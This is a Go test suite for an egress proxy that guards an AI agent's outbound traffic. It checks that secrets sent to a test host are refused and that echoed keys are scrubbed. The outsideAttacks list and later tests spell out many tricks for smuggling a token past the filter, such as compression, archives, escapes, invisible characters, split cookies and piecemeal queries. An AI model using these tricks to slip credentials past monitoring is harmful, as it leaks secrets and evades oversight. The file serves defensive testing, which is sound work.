package egress

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// outsideAttack is a request that carries a secret the agent holds and
// must be refused before it reaches the upstream.
type outsideAttack struct{ name, host, raw string }

// outsideAttacks were written from the protocols, not from the corpora;
// each got its secret out before the change that names it.
func outsideAttacks() []outsideAttack {
	const F = "files.example.test"
	tok := outsideGitHub
	h := hex.EncodeToString([]byte(tok))
	return []outsideAttack{
		// Places the scan did not look at: any token is a valid method and
		// header name, and both reach the upstream as sent.
		{"a header's name", F, "GET / HTTP/1.1\nHost: " + F + "\nX-D-" + h + ": 1\n\n"},
		{"the method", F, h + " / HTTP/1.1\nHost: " + F + "\n\n"},
		// An email uploaded whole, quoted-printable breaking the key's line.
		{"a quoted-printable soft break", F, post("/up", F, "message/rfc822", "Subject: notes\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nkey "+tok[:20]+"=\r\n"+tok[20:]+"\r\n")},
		// Text in UTF-32, as its charset says.
		{"UTF-32", F, post("/up", F, "text/plain; charset=utf-32le", string(utf32le(tok)))},
		// A key split across two cookies of one request.
		{"two cookies", F, "GET / HTTP/1.1\nHost: " + F + "\nCookie: a=" + tok[:20] + "; b=" + tok[20:] + "\n\n"},
		// Compressed with no Content-Encoding saying so.
		{"a gzip body", F, post("/up", F, "application/octet-stream", string(gz([]byte("GITHUB_TOKEN="+tok))))},
		{"gzip as base64 in JSON", F, post("/up", F, "application/json", `{"blob":"`+base64.StdEncoding.EncodeToString(gz([]byte(tok)))+`"}`)},
		{"a zip file uploaded", F, post("/up", F, "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.zip\"\r\nContent-Type: application/zip\r\n\r\n"+
			string(zipped(".env", []byte("GITHUB_TOKEN="+tok+"\n")))+"\r\n--XX--\r\n")},
		// Escapes of C, Python, shells and JavaScript.
		{"octal escapes", F, post("/up", F, "application/json", `{"t":"`+escaped(tok, `\%03o`)+`"}`)},
		{"JavaScript's \\u{..}", F, post("/up", F, "application/javascript", `const t = "`+escaped(tok, `\u{%x}`)+`";`)},
		// Node's Buffer as JSON: the bytes in decimal.
		{"a Buffer as JSON", F, post("/up", F, "application/json", `{"type":"Buffer","data":[`+strings.TrimSuffix(escaped(tok, "%d,"), ",")+`]}`)},
		// Invisible characters between the key's, or its fullwidth forms.
		{"zero-width spaces between", F, post("/up", F, "text/plain; charset=utf-8", strings.Join(strings.Split(tok, ""), "\u200b"))},
		{"soft hyphens between", F, post("/up", F, "text/plain; charset=utf-8", strings.Join(strings.Split(tok, ""), "\u00ad"))},
		{"fullwidth", F, post("/up", F, "text/plain; charset=utf-8", strings.Map(func(r rune) rune { return r - 0x21 + 0xff01 }, tok))},
		// The key itself wrapped into short lines.
		{"lines of ten", F, post("/up", F, "text/plain", grouped(tok, 10, "\n"))},
		{"lines of twenty", F, post("/up", F, "text/plain", grouped(tok, 20, "\n"))},
		{"a gRPC-Web call, its message gzipped", F, post("/svc.Notes/Create", F, "application/grpc-web+proto", string(grpcFrame(1, gz(append([]byte{0x0a, byte(len(tok))}, tok...)))), "grpc-encoding: gzip")},
		{"gzip after a header of its own", F, post("/up", F, "application/octet-stream", "HDR1"+string(gz([]byte(tok))))},
		{"a git loose object (zlib)", F, post("/up", F, "application/x-git-loose-object", string(zlibbed([]byte("blob 41\x00"+tok))))},
	}
}

// TestOutsideAttacksAreRefused: each attack gets the proxy's 403 and
// never reaches the upstream; the audit does not hold the secret.
func TestOutsideAttacksAreRefused(t *testing.T) {
	o := newOutside(t)
	for _, c := range outsideAttacks() {
		t.Run(c.name, func(t *testing.T) {
			before := o.up.count()
			st, body := o.send(t, c.host, c.raw)
			if st != 403 || o.up.count() != before {
				t.Errorf("got out: status %d, upstream saw %d new requests: %.200s", st, o.up.count()-before, body)
			}
		})
	}
	audit, _ := os.ReadFile(filepath.Join(o.dir, AuditFile))
	if h := hex.EncodeToString([]byte(outsideGitHub)); strings.Contains(string(audit), h[:24]) {
		t.Errorf("the audit holds the secret: %s", audit)
	}
}

// TestOutsideEchoIsScrubbed: an upstream that echoes the injected key
// escaped, as JSON, HTML or JavaScript writes its '/' and '+', hands the
// agent the placeholder; so does one that trickles it out a byte at a time.
func TestOutsideEchoIsScrubbed(t *testing.T) {
	o := newOutside(t)
	const A = "api.example.test"
	unescape := strings.NewReplacer(`\/`, "/", "&#43;", "+", "&#x2F;", "/", `\u002f`, "/", `\u002F`, "/", `\u002b`, "+")
	for _, p := range []string{"/echo/php", "/echo/html", "/echo/js", "/echo/trickle"} {
		st, body := o.send(t, A, "GET "+p+" HTTP/1.1\nHost: "+A+"\nx-api-key: bottle-placeholder\n\n")
		if st != 200 || strings.Contains(unescape.Replace(body), outsideSecret) || !strings.Contains(body, Placeholder) {
			t.Errorf("%s: status %d, the agent read %q", p, st, body)
		}
	}
}

func zlibbed(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// TestOutsideBenignPasses: what an agent sends every day, of the kinds the
// attacks above hide in, reaches the upstream.
func TestOutsideBenignPasses(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	code := []byte("package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hello, world\")\n}\n")
	for _, c := range []outsideAttack{
		{"a gzip of code", F, post("/up", F, "application/gzip", string(gz(code)))},
		{"a zip of code", F, post("/up", F, "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"src.zip\"\r\n\r\n"+
			string(zipped("main.go", code))+"\r\n--XX--\r\n")},
		{"gzip as base64 in JSON", F, post("/up", F, "application/json", `{"blob":"`+base64.StdEncoding.EncodeToString(gz(code))+`"}`)},
		{"headers a CDN client sends", F, "GET /v1/x HTTP/1.1\nHost: " + F + "\nX-Amz-Content-Sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\nX-Request-Id: 6f1c2b1e-9a43-4c1e-8f6e-2d7b4c9a1e55\nIf-None-Match: W/\"5e8f-1a2b3c\"\n\n"},
		{"a gRPC-Web call, gzipped", F, post("/svc.Notes/List", F, "application/grpc-web+proto", string(grpcFrame(1, gz([]byte("\x0a\x05hello\x10\x14")))), "grpc-encoding: gzip")},
		{"a bitmap, mostly zeros", F, post("/up", F, "image/bmp", "BM\x36\x04\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"+strings.Repeat("\x00\x00\x00\xff\x10\x20\x00\x00", 128))},
		{"pixels as JSON", F, post("/up", F, "application/json", `{"w":4,"h":4,"rgba":[255,255,255,0,12,34,56,255,200,100,50,255,0,0,0,255,1,2,3,4,128,128,128,255]}`)},
		{"prose in several scripts", F, post("/up", F, "text/plain; charset=utf-8", "\ufeffIt\u2019s \u201cdone\u201d \u2014 see \uff08\u682a\uff09\u30c6\u30b9\u30c8\uff01 \U0001F468\u200d\U0001F469\u200d\U0001F467 \u05e9\u05dc\u05d5\u05dd\u200f ok")},
		{"a PROPFIND", F, "PROPFIND /dav/ HTTP/1.1\nHost: " + F + "\nDepth: 1\n\n"},
		{"text that starts like zlib", F, post("/up", F, "text/plain", "x^2 + y^2 = r^2, and more text that follows it")},
	} {
		before := o.up.count()
		if st, body := o.send(t, c.host, c.raw); st != 200 || o.up.count() != before+1 {
			t.Errorf("%s: blocked: status %d: %.200s", c.name, st, body)
		}
	}
}

func gz(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zipped(name string, b []byte) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, _ := w.Create(name)
	f.Write(b)
	w.Close()
	return buf.Bytes()
}

func escaped(s, format string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, format, c)
	}
	return b.String()
}

func grouped(s string, n int, sep string) string {
	var parts []string
	for len(s) > n {
		parts = append(parts, s[:n])
		s = s[n:]
	}
	return strings.Join(append(parts, s), sep)
}

// TestOutsideUpgradeEchoIsScrubbed: an upstream that names, in its answer
// to a WebSocket upgrade, the key it was sent hands the agent the
// placeholder.
func TestOutsideUpgradeEchoIsScrubbed(t *testing.T) {
	o := newOutside(t)
	cp := &corpusProxy{roots: o.roots.RootCAs}
	conn, err := net.Dial("tcp", o.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	io.WriteString(conn, "CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
	if resp, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	tc := tls.Client(conn, &tls.Config{RootCAs: cp.roots, ServerName: "api.example.test"})
	io.WriteString(tc, "GET /socket HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
		"x-api-key: bottle-placeholder\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("upgrade: %v %v", resp, err)
	}
	if got := resp.Header.Get("X-Echo"); got != Placeholder {
		t.Errorf("the agent read X-Echo: %q", got)
	}
}

// TestOutsideTrailerEchoIsScrubbed: an upstream that sends the key it was
// sent in a trailer, after the body, hands the agent the placeholder.
func TestOutsideTrailerEchoIsScrubbed(t *testing.T) {
	o := newOutside(t)
	conn, err := net.Dial("tcp", o.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	io.WriteString(conn, "CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
	if resp, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	tc := tls.Client(conn, &tls.Config{RootCAs: o.roots.RootCAs, ServerName: "api.example.test"})
	io.WriteString(tc, "GET /echo/trailer HTTP/1.1\r\nHost: api.example.test\r\nTE: trailers\r\nConnection: close\r\n\r\n")
	all, _ := io.ReadAll(tc)
	if !strings.Contains(string(all), "X-Key: "+Placeholder) || strings.Contains(string(all), outsideSecret) {
		t.Errorf("the agent read %q", all)
	}
}

// grpcFrame is a gRPC message as gRPC-Web frames it: a flag (1:
// compressed), its length, the message.
func grpcFrame(flag byte, msg []byte) []byte {
	h := []byte{flag, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(h[1:], uint32(len(msg)))
	return append(h, msg...)
}

func utf32le(s string) []byte {
	var out []byte
	for _, c := range []byte(s) {
		out = append(out, c, 0, 0, 0)
	}
	return out
}

// TestOutsideKeyInShortPieces: a key sent four characters a request, in
// one query parameter, with requests that vary other things between: the
// request that completes it is refused.
func TestOutsideKeyInShortPieces(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	for name, tok := range map[string]string{
		"github":         outsideGitHub,
		"github-base64":  base64.StdEncoding.EncodeToString([]byte(outsideGitHub)),
		"github-reverse": reverse(outsideGitHub),
		"aws":            "AKIA" + "QX4TZ7RM2PLW9KVN", // 4*5 characters
		"injected":       outsideSecret,
	} {
		t.Run(name, func(t *testing.T) {
			last := 0
			for i := 0; i < len(tok); i += 4 {
				q := url.QueryEscape(tok[i:min(i+4, len(tok))])
				last, _ = o.send(t, F, "GET /search?"+name+"="+q+" HTTP/1.1\nHost: "+F+"\nUser-Agent: curl/8.5.0\nAccept: */*\n\n")
				for k := range 3 {
					o.send(t, F, fmt.Sprintf("GET /n/%d HTTP/1.1\nHost: %s\nUser-Agent: curl/8.5.0\nX-Trace: t%d-%d\n\n", i+k, F, i, k*7919))
				}
			}
			if last != 403 {
				t.Errorf("the request that completes the key got %d", last)
			}
		})
	}
}

// TestOutsideShortPiecesBenign: a client that sends a new request id, a
// new cursor and a new nonce on every request, in the same places, is not
// refused: the split watch's runs of key-like pieces find nothing there.
func TestOutsideShortPiecesBenign(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	for i := range 60 {
		id := fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", i*2654435761, i*40503, i*977, i*331, i*0x9E3779B97F4A7C)
		raw := fmt.Sprintf("GET /v1/items?cursor=c%dK%x&page=%d HTTP/1.1\nHost: %s\nX-Request-Id: %s\nX-Nonce: n%xQ%d\n\n", i, i*7919, i, F, id, i*104729, i)
		if code, body := o.send(t, F, raw); code != 200 {
			t.Fatalf("request %d: %d %s", i, code, body)
		}
	}
}

func reverse(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

// TestOutsideKeyInCodeTricks: a key hidden in plain sight in what the
// agent writes out, each way through a real proxy to a host the bottle
// holds no credential for: string literals joined by the language, an AWS
// key ID lowercased, bits as binary digits. Code that joins ordinary
// strings, and docs, still pass.
func TestOutsideKeyInCodeTricks(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	aws := "AKIA" + "QX4TZ7RM2PLW9KVN"
	gh := outsideGitHub
	var groups []string
	for _, c := range []byte(gh) {
		groups = append(groups, fmt.Sprintf("%08b", c))
	}
	for name, body := range map[string]string{
		"js concatenation":     `{"code": "const token = \"` + gh[:18] + `\" + \"` + gh[18:] + `\";"}`,
		"python continuation":  "token = (\n    \"" + gh[:14] + "\"\n    \"" + gh[14:30] + "\"\n    \"" + gh[30:] + "\"\n)\n",
		"sql concatenation":    "INSERT INTO notes VALUES ('" + aws[:4] + "' || '" + aws[4:] + "');",
		"lowercased aws":       `{"note": "` + strings.ToLower(aws) + `"}`,
		"binary digits":        "payload: " + strings.Join(groups, " "),
		"binary digits joined": "bits=" + strings.Join(groups, ""),
	} {
		t.Run(name, func(t *testing.T) {
			if code, _ := o.send(t, F, post("/upload", F, "text/plain", body)); code != 403 {
				t.Errorf("got %d", code)
			}
		})
	}
	for name, body := range map[string]string{
		"go concatenation": `msg := "the upload of " + name + " failed: " + err.Error() + " (retrying)"` + "\n" + `url := base + "/v1/" + "messages?beta=true"`,
		"js concatenation": `const greeting = "Hello, " + user.firstName + "! Welcome to " + "the dashboard";`,
		"python adjacent":  "help = (\"Usage: tool [options]\"\n        \"  --verbose  print more\")\n",
		"docs about bits":  "Permissions are 00000111 00000101 00000101 in binary, or 0755.",
		"docs about asia":  "Regions: asia-southeast1, asia-northeast1; see the akiaki library.",
	} {
		t.Run("benign "+name, func(t *testing.T) {
			if code, answer := o.send(t, F, post("/upload", F, "text/plain", body)); code != 200 {
				t.Errorf("got %d: %s", code, answer)
			}
		})
	}
}
